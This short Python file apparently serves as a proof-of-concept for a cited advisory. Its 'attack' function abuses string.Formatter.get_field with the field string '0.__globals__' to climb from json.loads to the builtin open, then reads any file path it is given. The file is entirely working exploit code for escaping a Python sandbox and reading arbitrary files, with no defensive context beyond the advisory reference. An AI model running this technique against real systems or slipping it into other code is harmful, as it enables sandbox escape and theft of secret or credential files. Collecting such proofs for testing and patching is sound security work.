# `string.Formatter.get_field` gives the object itself.
# after: read
# source: CVE-2026-76825 (GHSA-hp3v-5vw7-fx9w)
import json
import string
def attack(path, **_):
    found, _ = string.Formatter().get_field("0.__globals__", [json.loads], {})
    return {"text": found["__builtins__"]["open"](path).read()}
